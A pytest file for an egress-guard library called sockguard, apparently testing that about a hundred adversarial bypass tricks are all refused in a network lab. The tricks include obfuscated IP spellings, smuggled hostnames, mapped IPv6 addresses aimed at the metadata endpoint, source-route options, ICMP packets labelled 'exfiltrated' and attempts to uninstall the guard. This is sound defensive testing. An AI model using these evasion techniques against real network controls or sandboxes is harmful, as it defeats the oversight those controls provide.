"""An adversarial pass over issue 10's enforcement integrity: tricks the earlier passes did not try, each in a real
guarded process under both activations (``sockguard run`` and the ``PYTHONPATH`` sitecustomize), each proven from
the far side (no connection, datagram, DNS query or PTR query reached anything the policy does not allow).

The scene is tests/integrity_support.py's (``*.allowed.test:443`` and ``10.0.0.0/8:5432``, loopback not allowed),
plus a server on 10.0.0.5:443 (where an allowed name's IPv4-mapped answer would land) and one on loopback."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.coverage_support import CHILD_PRELUDE, run_stepped_child
from tests.integrity_support import ALLOW, Scene, activated, build_scene, per_step, snapshot
from tests.native_support import preloaded_env, write_policy
from tests.netlab import Lab

CHILD = r'''
import asyncio, collections, os, socket, ssl, struct, subprocess, sys, _socket
import multiprocessing, concurrent.futures

Endpoint = collections.namedtuple("Endpoint", "host port")
BLOCKED = ("203.0.113.10", 80)

def tcp(address, family=socket.AF_INET, how="connect", kind=None):
    sock = (kind or socket.socket)(family, socket.SOCK_STREAM)
    sock.settimeout(3)
    try:
        result = getattr(sock, how)(address)
        if how == "connect_ex" and result:
            raise OSError(result, os.strerror(result))
        return result
    finally:
        sock.close()

def udp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"x", address)

def run(coroutine):
    return asyncio.run(asyncio.wait_for(coroutine, 5))

async def create_connection(host, port, **kwargs):
    transport, _ = await asyncio.get_running_loop().create_connection(asyncio.Protocol, host, port, **kwargs)
    transport.close()

async def open_connection(host, port, **kwargs):
    reader, writer = await asyncio.open_connection(host, port, **kwargs)
    writer.close()

class Datagrams(asyncio.DatagramProtocol):
    """asyncio hands a failed send to error_received: raise it, so the cell sees what the guard said."""
    def __init__(self):
        self.errors = []
    def error_received(self, exc):
        self.errors.append(exc)

async def datagram(remote=None, local=None, to=None):
    loop = asyncio.get_running_loop()
    transport, protocol = await loop.create_datagram_endpoint(Datagrams, local_addr=local, remote_addr=remote)
    try:
        if to is not None:
            transport.sendto(b"x", to)
        else:
            transport.sendto(b"x")
        await asyncio.sleep(0.05)
    finally:
        transport.close()
    if protocol.errors:
        raise protocol.errors[0]

async def sock_connect(address, family=socket.AF_INET):
    with socket.socket(family) as sock:
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, address)

def fastopen_sendto(address, how="sendto"):
    with socket.socket() as sock:
        sock.settimeout(3)
        if how == "sendto":
            return sock.sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, address)
        return sock.sendmsg([b"GET / HTTP/1.0\r\n\r\n"], [], socket.MSG_FASTOPEN, address)

def fastopen_connect(address):
    with socket.socket() as sock:
        sock.settimeout(3)
        sock.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
        sock.connect(address)

def lsrr(hop, final):
    return bytes([1, 131, 11, 4]) + socket.inet_aton(hop) + socket.inet_aton(final)

def cmsg_route(family=socket.AF_INET, to=("198.51.100.10", 5353), kind=socket.IP_RETOPTS):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        return sock.sendmsg([b"x"], [(socket.IPPROTO_IP, kind, lsrr("198.51.100.10", "203.0.113.10"))], 0, to)

def pktinfo(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        info = struct.pack("=I4s4s", 0, socket.inet_aton("0.0.0.0"), socket.inet_aton("203.0.113.10"))
        return sock.sendmsg([b"x"], [(socket.IPPROTO_IP, 8, info)], 0, to)  # IP_PKTINFO

def mapped_answer():
    infos = socket.getaddrinfo("rebind.allowed.test", 443, socket.AF_INET6, socket.SOCK_STREAM, 0, socket.AI_V4MAPPED)
    tcp(infos[0][4], socket.AF_INET6)
    return infos[0][4]

def family_lie():
    """An AF_INET datagram socket adopted as AF_INET6 (a family given with fileno= is believed by C)."""
    real = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    lie = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 0, fileno=os.dup(real.fileno()))
    try:
        return lie.sendto(b"x", ("::ffff:203.0.113.10", 5353))
    finally:
        lie.close()
        real.close()

def connected_then_adopted():
    """Connect to the allowed service, adopt the descriptor (fromfd), reconnect the copy elsewhere (UDP)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(("198.51.100.10", 443))
    copy = socket.fromfd(sock.fileno(), socket.AF_INET, socket.SOCK_DGRAM)
    try:
        copy.connect(("203.0.113.10", 5353))
        return copy.send(b"x")
    finally:
        copy.close()
        sock.close()

def _child_connect(address):
    import socket
    with socket.socket() as sock:
        sock.settimeout(3)
        sock.connect(tuple(address))
    return "connected"

def process_pool(method):
    context = multiprocessing.get_context(method)
    with concurrent.futures.ProcessPoolExecutor(1, mp_context=context) as pool:
        return pool.submit(_child_connect, BLOCKED).result(20)

PYTHON_CONNECT = (
    "import socket; s = socket.socket(); s.settimeout(3); "
    "s.connect(('203.0.113.10', 80)); print('connected')"
)

CTYPES_PING = """
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
if fd < 0:
    raise PermissionError(ctypes.get_errno(), "socket(): " + os.strerror(ctypes.get_errno()))
address = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(5432), socket.inet_aton("10.0.0.5"))
packet = struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"exfiltrated"
if libc.sendto(fd, packet, len(packet), 0, address, len(address)) < 0:
    raise PermissionError(ctypes.get_errno(), "sendto(): " + os.strerror(ctypes.get_errno()))
print("connected")
"""

def python_child(*flags, env=None, prelude="", code=PYTHON_CONNECT):
    argv = [sys.executable, *flags, "-c", prelude + code]
    result = subprocess.run(argv, env=env, capture_output=True, text=True)
    if "connected" in result.stdout:
        return "connected"
    raise OSError("child: " + (result.stderr.strip().splitlines() or ["no output"])[-1][-280:])

def nested_run(*flags):
    """`sockguard run` started again from inside the tree, with flags that would widen or switch off the guard."""
    argv = [sys.executable, "-m", "sockguard", "run", *flags, "--", sys.executable, "-c", PYTHON_CONNECT]
    result = subprocess.run(argv, capture_output=True, text=True)
    if "connected" in result.stdout:
        return "connected"
    raise OSError("child: " + (result.stderr.strip().splitlines() or ["no output"])[-1][-280:])

def posix_spawn_child():
    import tempfile
    with tempfile.TemporaryFile() as errors:
        actions = [(os.POSIX_SPAWN_DUP2, errors.fileno(), 2)]
        pid = os.posix_spawn(sys.executable, [sys.executable, "-c", PYTHON_CONNECT], os.environ, file_actions=actions)
        _, status = os.waitpid(pid, 0)
        if os.waitstatus_to_exitcode(status) == 0:
            return "connected"
        errors.seek(0)
        raise OSError("child: " + (errors.read().decode().strip().splitlines() or ["no output"])[-1][-280:])

def reload_socket():
    import importlib
    importlib.reload(socket)
    tcp(Endpoint("blocked.test", 80))

def fresh_socket_module():
    saved = sys.modules.pop("socket")
    try:
        import socket as fresh
        with fresh.socket() as sock:
            sock.settimeout(3)
            sock.connect(("blocked.test", 80))
    finally:
        sys.modules["socket"] = saved

def public_api(how):
    import sockguard
    if how == "uninstall":
        sockguard.uninstall()
        try:
            return tcp(BLOCKED)
        finally:
            sockguard.install()
    if how == "install-mode-off":
        sockguard.install(mode="off")
        try:
            return tcp(BLOCKED)
        finally:
            sockguard.install()
    if how == "install-widen":
        sockguard.install(allow=["203.0.113.10"])
        try:
            return tcp(BLOCKED)
        finally:
            sockguard.install()
    if how == "environ-opt-in":  # the opt-in is the operator's: os.environ after start-up is not
        os.environ["SOCKGUARD_ALLOW_RUNTIME_CHANGES"] = "1"
    if how == "chdir-opt-in":  # nor a configuration file in a directory the program moves to
        os.chdir(opt_in_repository())
    if how in ("environ-opt-in", "chdir-opt-in"):
        try:
            sockguard.uninstall()
        finally:
            os.environ.pop("SOCKGUARD_ALLOW_RUNTIME_CHANGES", None)
            os.chdir(HERE)
        return tcp(BLOCKED)
    with sockguard.guarded(allow=["203.0.113.10"]):
        return tcp(BLOCKED)

HERE = os.getcwd()

def opt_in_repository():
    import tempfile
    directory = tempfile.mkdtemp()
    with open(os.path.join(directory, "sockguard.toml"), "w") as fh:
        fh.write('mode = "off"\nallow_runtime_changes = true\n')
    return directory

def ping(address, connect=False):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        packet = struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"exfiltrated"
        if connect:
            sock.connect(address)
            return sock.send(packet)
        return sock.sendto(packet, address)

def icmp_adopted(cls):
    """A ping socket made by C (ctypes: the Python layer sees no socket.__new__), adopted by Python."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    if fd < 0:
        raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    try:
        sock = cls(socket.AF_INET, socket.SOCK_DGRAM, 0, fileno=fd)  # declared as a plain datagram socket
    except BaseException:
        os.close(fd)
        raise
    try:
        return sock.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"exfiltrated", ("10.0.0.5", 5432))
    finally:
        sock.close()

def testing_reset():
    import sockguard.testing
    sockguard.testing.reset()
    return tcp(BLOCKED)

def private_handlers():
    from sockguard import _hook
    saved = dict(_hook.handlers)
    _hook.handlers.clear()
    try:
        return tcp(BLOCKED)
    finally:
        _hook.handlers.update(saved)

def memory_bio_sni():
    context = ssl.create_default_context()
    return context.wrap_bio(ssl.MemoryBIO(), ssl.MemoryBIO(), server_hostname="blocked.test")

SCENARIOS = {
    # IPv4 in the spellings inet_aton takes (glibc's getaddrinfo reads them without DNS)
    "decimal-integer": lambda: tcp(("3405803786", 80)),
    "hex-dotted": lambda: tcp(("0xcb.0.0x71.0xa", 80)),
    "hex-uppercase": lambda: tcp(("0XCB.0X0.0X71.0XA", 80)),
    "octal-dotted": lambda: tcp(("0313.0.0161.012", 80)),
    "two-part": lambda: tcp(("203.28938", 80)),
    "three-part-metadata": lambda: tcp(("169.254.43518", 80)),
    "leading-zero-octal": lambda: tcp(("010.0.0.5", 80)),
    "trailing-dot-address": lambda: tcp(("203.0.113.10.", 80)),
    "trailing-space": lambda: tcp(("203.0.113.10 ", 80)),
    "trailing-garbage": lambda: tcp(("203.0.113.10 evil", 80)),
    "ipv4-zone": lambda: tcp(("203.0.113.10%lo", 80)),
    "bytes-hex-dotted": lambda: tcp((b"0xa9.0xfe.0xa9.0xfe", 80)),
    # names
    "upper-case-name": lambda: tcp(("BLOCKED.TEST", 80)),
    "trailing-dot-name": lambda: tcp(("blocked.test.", 80)),
    "ideographic-dot": lambda: tcp(("blocked\u3002test", 80)),
    "fullwidth-dot-allowed-suffix": lambda: tcp(("api.allowed.test\uff0eevil.test", 443)),
    "idna-name": lambda: tcp(("bl\u00f6cked.test", 80)),
    "punycode-name": lambda: tcp(("xn--blcked-jua.test", 80)),
    "name-with-nul": lambda: tcp(("blocked.test\0.allowed.test", 443)),
    "name-with-percent": lambda: tcp(("api.allowed.test%lo", 443), socket.AF_INET6),
    "name-allowed-suffix-trick": lambda: tcp(("api.allowed.test.evil.test", 443)),
    # glibc reads "\." as a dot inside a label and "\046" as a byte: the wire name would leave allowed.test
    "dns-escaped-dot": lambda: tcp(("blocked.test\\.allowed.test", 443)),
    "dns-escaped-decimal": lambda: tcp(("blocked\\046test.allowed.test", 443)),
    "dns-escaped-dot-_socket-lookup": lambda: _socket.getaddrinfo("blocked.test\\.allowed.test", 443),
    # IPv6 shapes
    "v4-mapped": lambda: tcp(("::ffff:203.0.113.10", 80), socket.AF_INET6),
    "v4-mapped-hex": lambda: tcp(("::ffff:cb00:710a", 80), socket.AF_INET6),
    "v4-mapped-metadata": lambda: tcp(("::ffff:169.254.169.254", 80), socket.AF_INET6),
    "v4-mapped-loopback": lambda: tcp(("::ffff:127.0.0.9", 80), socket.AF_INET6),
    "v4-mapped-expanded": lambda: tcp(("0:0:0:0:0:FFFF:CB00:710A", 80), socket.AF_INET6),
    "nat64-metadata": lambda: tcp(("64:ff9b::a9fe:a9fe", 80), socket.AF_INET6),
    "6to4-metadata": lambda: tcp(("2002:a9fe:a9fe::1", 80), socket.AF_INET6),
    "teredo": lambda: tcp(("2001:0:a9fe:a9fe::1", 80), socket.AF_INET6),
    "metadata-v6-zone-name": lambda: tcp(("fd00:ec2::254%lo", 80), socket.AF_INET6),
    "metadata-v6-zone-number": lambda: tcp(("fd00:ec2::254%1", 80), socket.AF_INET6),
    "metadata-v6-upper-long": lambda: tcp(("FD00:0EC2:0:0:0:0:0:254", 80), socket.AF_INET6),
    "metadata-v6-4tuple-scope": lambda: tcp(("fd00:ec2::254", 80, 0, 1), socket.AF_INET6),
    "v4-mapped-udp": lambda: udp(("::ffff:203.0.113.10", 5353), socket.AF_INET6),
    "allowed-name-v4-mapped-answer": mapped_answer,
    # asyncio
    "asyncio-create_connection-ip": lambda: run(create_connection("203.0.113.10", 80)),
    "asyncio-create_connection-name": lambda: run(create_connection("blocked.test", 80)),
    "asyncio-create_connection-hex": lambda: run(create_connection("0xcb.0.0x71.0xa", 80)),
    "asyncio-create_connection-local_addr-name": lambda: run(
        create_connection("198.51.100.10", 443, local_addr=("blocked.test", 0))),
    "asyncio-open_connection-happy-eyeballs": lambda: run(
        open_connection("blocked.test", 80, happy_eyeballs_delay=0.1, interleave=2)),
    "asyncio-create_connection-v4-mapped": lambda: run(create_connection("::ffff:169.254.169.254", 80)),
    "asyncio-datagram-sendto-ip": lambda: run(datagram(local=("0.0.0.0", 0), to=("203.0.113.10", 5353))),
    "asyncio-datagram-sendto-name": lambda: run(datagram(local=("0.0.0.0", 0), to=("blocked.test", 5353))),
    "asyncio-datagram-sendto-namedtuple": lambda: run(
        datagram(local=("0.0.0.0", 0), to=Endpoint("169.254.169.254", 5353))),
    "asyncio-datagram-remote-hex": lambda: run(datagram(remote=("0xcb.0.0x71.0xa", 5353))),
    "asyncio-datagram-local-name": lambda: run(datagram(local=("blocked.test", 0))),
    "asyncio-sock_connect-name": lambda: run(sock_connect(("blocked.test", 80))),
    "asyncio-sock_connect-v4-mapped": lambda: run(sock_connect(("::ffff:10.0.0.5", 80), socket.AF_INET6)),
    "asyncio-getaddrinfo": lambda: asyncio.run(_loop_getaddrinfo()),
    "asyncio-getnameinfo": lambda: asyncio.run(_loop_getnameinfo()),
    # socket-module helpers
    "create_connection-name": lambda: socket.create_connection(("blocked.test", 80), 3),
    "create_server-name": lambda: socket.create_server(("blocked.test", 0)).close(),
    "getaddrinfo-canonname": lambda: socket.getaddrinfo("blocked.test", 80, 0, 0, 0, socket.AI_CANONNAME),
    "getaddrinfo-v4mapped-all": lambda: socket.getaddrinfo(
        "blocked.test", None, socket.AF_INET6, 0, 0, socket.AI_V4MAPPED | socket.AI_ALL),
    "getaddrinfo-bytearray": lambda: socket.getaddrinfo(bytearray(b"blocked.test"), 80),
    "gethostbyname-bytearray": lambda: socket.gethostbyname(bytearray(b"blocked.test")),
    "gethostbyname_ex-bytearray": lambda: socket.gethostbyname_ex(bytearray(b"blocked.test")),
    "gethostbyaddr-bytearray": lambda: socket.gethostbyaddr(bytearray(b"blocked.test")),
    "_socket-gethostbyname-bytearray": lambda: _socket.gethostbyname(bytearray(b"blocked.test")),
    "_socket-gethostbyaddr-bytearray": lambda: _socket.gethostbyaddr(bytearray(b"blocked.test")),
    "_socket-gethostbyaddr-bytearray-ip": lambda: _socket.gethostbyaddr(bytearray(b"203.0.113.7")),
    "_socket-getnameinfo-hex": lambda: _socket.getnameinfo(("0xcb.0.0x71.0x7", 80), 0),
    "gethostbyaddr-hex": lambda: socket.gethostbyaddr("0xcb.0.0x71.0x7"),
    "gethostbyaddr-bytearray-ip": lambda: socket.gethostbyaddr(bytearray(b"203.0.113.7")),
    "gethostbyaddr-link-local-zone": lambda: socket.gethostbyaddr("fe80::dead%lo"),
    "gethostbyaddr-v4-mapped": lambda: socket.gethostbyaddr("::ffff:203.0.113.7"),
    "_socket-connect-name": lambda: tcp(("blocked.test", 80), kind=_socket.socket),
    "icmp-echo-port-scoped-rule": lambda: ping(("10.0.0.5", 5432)),
    "icmp-echo-connected-port-scoped-rule": lambda: ping(("10.0.0.5", 5432), connect=True),
    "icmp-echo-blocked": lambda: ping(("203.0.113.10", 0)),
    "icmp-adopted": lambda: icmp_adopted(socket.socket),
    "icmp-adopted-by-_socket": lambda: icmp_adopted(_socket.socket),
    "testing-reset": testing_reset,
    "private-handlers-cleared": private_handlers,
    # TCP Fast Open, ancillary data
    "fastopen-sendto": lambda: fastopen_sendto(BLOCKED),
    "fastopen-sendmsg": lambda: fastopen_sendto(BLOCKED, "sendmsg"),
    "fastopen-sendto-name": lambda: fastopen_sendto(("blocked.test", 80)),
    "fastopen-connect": lambda: fastopen_connect(BLOCKED),
    "cmsg-ip-retopts-lsrr": lambda: cmsg_route(),
    "cmsg-ip-options-lsrr": lambda: cmsg_route(kind=socket.IP_OPTIONS),
    "cmsg-v6-socket-v4-mapped-lsrr": lambda: cmsg_route(socket.AF_INET6, ("::ffff:198.51.100.10", 5353)),
    "pktinfo-to-blocked": lambda: pktinfo(("203.0.113.10", 5353)),
    # descriptors
    "family-lie": family_lie,
    "connected-then-adopted": connected_then_adopted,
    # process tricks
    "process-pool-spawn": lambda: process_pool("spawn"),
    "process-pool-forkserver": lambda: process_pool("forkserver"),
    "process-pool-fork": lambda: process_pool("fork"),
    "posix_spawn-child": posix_spawn_child,
    "subprocess-child": lambda: python_child(),
    "child-isolated-mode": lambda: python_child("-I"),
    "child-ignore-environment": lambda: python_child("-E"),
    "child-no-site": lambda: python_child("-S"),
    "child-empty-env": lambda: python_child(env={}),
    "nested-run-widen": lambda: nested_run("--allow", "203.0.113.10:80"),
    "nested-run-mode-off": lambda: nested_run("--mode", "off"),
    "nested-run-no-native-config": lambda: nested_run(
        "--no-native", "--config", opt_in_repository() + "/sockguard.toml"),
    "child-isolated-mode-uninstall": lambda: python_child("-I", prelude="import sockguard; sockguard.uninstall(); "),
    "child-ctypes-icmp": lambda: python_child(code=CTYPES_PING),
    "reload-socket": reload_socket,
    "fresh-socket-module": fresh_socket_module,
    "ssl-memory-bio-sni": memory_bio_sni,
    # the public API from application code
    "api-uninstall": lambda: public_api("uninstall"),
    "api-install-mode-off": lambda: public_api("install-mode-off"),
    "api-install-widen": lambda: public_api("install-widen"),
    "api-guarded-widen": lambda: public_api("guarded"),
    "api-uninstall-after-environ-opt-in": lambda: public_api("environ-opt-in"),
    "api-uninstall-after-chdir-opt-in": lambda: public_api("chdir-opt-in"),
    "child-isolated-mode-uninstall-after-opt-ins": lambda: python_child("-I", prelude=(
        "import os, sockguard; os.environ['SOCKGUARD_ALLOW_RUNTIME_CHANGES'] = '1'; "
        f"os.chdir({opt_in_repository()!r}); sockguard.uninstall(); ")),
}

async def _loop_getaddrinfo():
    return await asyncio.get_running_loop().getaddrinfo("blocked.test", 80)

async def _loop_getnameinfo():
    return await asyncio.get_running_loop().getnameinfo(("203.0.113.7", 80))

if __name__ == "__main__":
    for name, scenario in SCENARIOS.items():
        cell(name, scenario)
        step(name)
    print(json.dumps(RESULTS))
'''

SCENARIO_NAMES = [
    line.split('"')[1]
    for line in CHILD.split("SCENARIOS = {", 1)[1].split("\n}", 1)[0].splitlines()
    if line.strip().startswith('"') and '": ' in line
]
ACTIVATIONS = ("run", "pythonpath")
_runs: dict[str, tuple[dict[str, Any], dict[str, dict[str, int]]]] = {}


def _scene(lab: Lab) -> Scene:
    scene = build_scene(lab)
    scene.targets["internal:443"] = lab.tcp("10.0.0.5", 443)
    scene.targets["loopback:80"] = lab.tcp("127.0.0.9", 80)
    scene.datagrams["allowed-host:443"] = lab.udp("198.51.100.10", 443)
    Path("/proc/sys/net/ipv4/ping_group_range").write_text("0 2147483647\n")  # the lab namespace's own (docker's)
    return scene


def icmp_echoes_received() -> int:
    """Echo requests this namespace's kernel has received (``Icmp: InEchos``): the far side of a ping."""
    lines = [line.split() for line in Path("/proc/net/snmp").read_text().splitlines() if line.startswith("Icmp:")]
    return int(lines[1][lines[0].index("InEchos")])


def far_side(scene: Scene) -> dict[str, int]:
    return {**snapshot(scene), "icmp": icmp_echoes_received()}


def _run(activation: str, lab: Lab, directory: Path) -> tuple[dict[str, Any], dict[str, dict[str, int]]]:
    if activation not in _runs:
        lab.reset()
        scene = _scene(lab)
        directory.mkdir(parents=True, exist_ok=True)
        script = directory / "adversary.py"
        script.write_text(CHILD_PRELUDE + CHILD)
        env = {k: v for k, v in os.environ.items() if not k.startswith("SOCKGUARD_") and k != "PYTHONPATH"}
        env["SOCKGUARD_ALLOW_LOOPBACK"] = "0"
        argv = activated(activation, [sys.executable, str(script)], env)
        baseline = far_side(scene)  # the ICMP counter is the namespace's, since it was made
        results, steps = run_stepped_child("", env, lambda: far_side(scene), 300, argv=argv, cwd=str(directory))
        _runs[activation] = (results, per_step(steps, baseline))
    return _runs[activation]


@pytest.fixture(scope="module")
def module_tmp(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("adversarial")


#: Not covered, and stated so in the README's threat model: with the PYTHONPATH activation alone these run unguarded
#: (a Python that ignores PYTHONPATH/site, sockguard's private modules, C code through ctypes, a child whose
#: configuration the program chose: a nested `sockguard run`) and the far side counts them; under `sockguard run` the
#: native layer or the pinned configuration still holds each one.
PYTHONPATH_ALONE_LEAKS = {
    "child-isolated-mode": "tcp",
    "child-ignore-environment": "tcp",
    "child-no-site": "tcp",
    "child-isolated-mode-uninstall": "tcp",
    "child-isolated-mode-uninstall-after-opt-ins": "tcp",
    "child-ctypes-icmp": "icmp",
    "icmp-adopted-by-_socket": "icmp",
    "nested-run-widen": "tcp",
    "nested-run-mode-off": "tcp",
    "nested-run-no-native-config": "tcp",
    "private-handlers-cleared": "tcp",
}
#: C refuses these itself (its own exception, as without the guard); nothing leaves either way.
C_REFUSES = {"name-with-nul", "metadata-v6-zone-name", "getaddrinfo-bytearray"}


def _refused_by_the_guard(cell: dict[str, Any], activation: str) -> bool:
    if cell["ok"]:
        return False
    message = cell["message"]
    if message.startswith("child: "):  # a child process: the last line of its stderr
        if "EgressBlocked" in message or "does not allow run-time changes" in message:
            return True
        return activation == "run" and "Permission denied" in message
    # under `sockguard run` the native layer may refuse first: the call fails with EACCES from libc
    return cell["blocked"] or (activation == "run" and "Permission denied" in message)


@pytest.mark.parametrize("activation", ACTIVATIONS)
@pytest.mark.parametrize("scenario", SCENARIO_NAMES)
def test_every_adversarial_trick_is_refused_with_nothing_on_the_far_side(
    netlab_session: Lab, module_tmp: Path, activation: str, scenario: str
) -> None:
    results, counts = _run(activation, netlab_session, module_tmp / activation)
    cell, far = results[scenario], counts[scenario]
    leaked = {key: far[key] for key in ("tcp", "udp", "dns", "ptr", "icmp")}
    nothing = {"tcp": 0, "udp": 0, "dns": 0, "ptr": 0, "icmp": 0}
    assert far["allowed"] == 0, (cell, far)
    if scenario == "child-empty-env":  # env={} drops PYTHONPATH, SOCKGUARD_PINNED and LD_PRELOAD: not covered
        assert cell["ok"] and leaked == {**nothing, "tcp": 1}, (cell, far)
        return
    if activation == "pythonpath" and scenario in PYTHONPATH_ALONE_LEAKS:
        assert cell["ok"] and leaked == {**nothing, PYTHONPATH_ALONE_LEAKS[scenario]: 1}, (cell, far)
        return
    if scenario == "_socket-connect-name" and activation == "pythonpath":
        # C resolves a hostname handed to _socket before any audit event: its one query leaves, the connect is
        # refused (README, threat model); under `sockguard run` the native layer decides the lookup: no query
        assert _refused_by_the_guard(cell, activation) and leaked == {**nothing, "dns": 1}, (cell, far)
        return
    if scenario in C_REFUSES:
        assert not cell["ok"], cell
    elif scenario.startswith("api-"):
        assert not cell["ok"] and "refused: this process is guarded by the configuration" in cell["message"], cell
    else:
        assert _refused_by_the_guard(cell, activation), f"{scenario} went through under {activation}: {cell}"
    assert leaked == nothing, (cell, far)


# -- the opt-in: allow_runtime_changes ---------------------------------------------------------------------------

OPT_IN = r"""
import os, socket, sys
import sockguard

def connect():
    with socket.socket() as sock:
        sock.settimeout(3)
        sock.connect(("203.0.113.10", 80))

out = []
with sockguard.guarded(allow=["203.0.113.10:80"]):  # widened, as the configuration lets it
    connect()
    out.append("guarded: connected")
try:
    connect()
except sockguard.EgressBlocked:
    out.append("restored: blocked")
with sockguard.guarded(allow=["api.allowed.test:443"], allow_loopback=False):
    pid = os.fork()  # a child forked inside the block keeps the policy the parent had in force
    if pid == 0:
        try:
            connect()
            os._exit(0)
        except sockguard.EgressBlocked:
            os._exit(3)
    _, status = os.waitpid(pid, 0)
    out.append(f"forked child exit {os.waitstatus_to_exitcode(status)}")
sockguard.uninstall()
connect()
out.append("uninstalled: connected")
print("; ".join(out))
"""


@pytest.mark.parametrize("activation", ACTIVATIONS)
def test_allow_runtime_changes_lets_the_application_replace_the_configuration(
    netlab: Lab, tmp_path: Path, activation: str
) -> None:
    """The operator's opt-in: with ``allow_runtime_changes`` the public API replaces the start-up configuration
    (the native layer follows under `sockguard run`), as in a process nothing guarded at start-up."""
    target = netlab.tcp("203.0.113.10", 80)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SOCKGUARD_") and k != "PYTHONPATH"}
    env.update(SOCKGUARD_ALLOW_LOOPBACK="0", SOCKGUARD_ALLOW_RUNTIME_CHANGES="1")
    argv = activated(activation, [sys.executable, "-c", OPT_IN], env)
    result = subprocess.run(argv, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        "guarded: connected; restored: blocked; forked child exit 3; uninstalled: connected"
    ), result.stderr
    assert target.accepted == 2


NATIVE_ONLY = r"""
import os, socket, sys, sockguard
os.environ["SOCKGUARD_ALLOW_RUNTIME_CHANGES"] = "1"  # after start-up: the program's, not the operator's
os.chdir(sys.argv[1])  # a directory whose sockguard.toml says allow_runtime_changes = true
try:
    sockguard.uninstall()
    print("uninstalled")
except sockguard.ConfigError as exc:
    print("refused" if "does not allow run-time changes" in str(exc) else exc)
try:
    socket.create_connection(("203.0.113.10", 80), timeout=3)
    print("connected")
except OSError as exc:
    print(exc.errno)
"""


def test_a_python_guarded_only_by_the_native_layer_cannot_opt_itself_in(netlab: Lab, tmp_path: Path) -> None:
    """A Python the sitecustomize does not activate (``-I``) under a preloaded native policy: the opt-in is read
    from the environment it was started with, never ``os.environ`` as the program changed it nor a file in a
    directory it moved to. Before, both let ``sockguard.uninstall()`` switch the native layer off."""
    target = netlab.tcp("203.0.113.10", 80)
    repository = tmp_path / "repository"
    repository.mkdir()
    (repository / "sockguard.toml").write_text('mode = "off"\nallow_runtime_changes = true\n')
    policy = write_policy(tmp_path / "policy.bin", ALLOW, allow_loopback=False)
    argv = [sys.executable, "-I", "-c", NATIVE_ONLY, str(repository)]
    result = subprocess.run(argv, env=preloaded_env(policy), capture_output=True, text=True, timeout=60)
    assert result.stdout.split() == ["refused", "13"], (result.stdout, result.stderr)  # EACCES from the native layer
    assert target.accepted == 0


SHADOWED = r"""
import os, subprocess, sys
code = "import socket; s = socket.socket(); s.settimeout(3); s.connect(('203.0.113.10', 80)); print('connected')"
shadowing = sys.argv[1] + os.pathsep + os.environ.get("PYTHONPATH", "")
if sys.argv[2] == "env":
    env = {**os.environ, "PYTHONPATH": shadowing}
else:  # inherited: os.environ itself changed
    os.environ["PYTHONPATH"] = shadowing
    env = None
result = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True)
print("child:", result.stdout.strip() or result.stderr.strip().splitlines()[-1])
"""


@pytest.mark.parametrize("how", ["env", "os.environ"])
@pytest.mark.parametrize("activation", ACTIVATIONS)
def test_a_child_whose_pythonpath_shadows_the_sitecustomize_is_warned_about(
    netlab: Lab, tmp_path: Path, activation: str, how: str
) -> None:
    """A program that puts a directory with its own ``sitecustomize`` before sockguard's on a child's PYTHONPATH: the
    child imports that one and never activates the Python layer. The parent says so (it said nothing before: the
    activation entry was there); under the PYTHONPATH activation alone the child connects (README, threat model),
    under `sockguard run` the native layer holds it."""
    target = netlab.tcp("203.0.113.10", 80)
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    (shadow / "sitecustomize.py").write_text("")
    env = {k: v for k, v in os.environ.items() if not k.startswith("SOCKGUARD_") and k != "PYTHONPATH"}
    env["SOCKGUARD_ALLOW_LOOPBACK"] = "0"
    argv = activated(activation, [sys.executable, "-c", SHADOWED, str(shadow), how], env)
    result = subprocess.run(argv, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert f"an earlier PYTHONPATH entry ({shadow}) has a sitecustomize of its own" in result.stderr, result.stderr
    if activation == "pythonpath":
        assert result.stdout.strip() == "child: connected" and target.accepted == 1
    else:
        assert "Permission denied" in result.stdout and target.accepted == 0, result.stdout
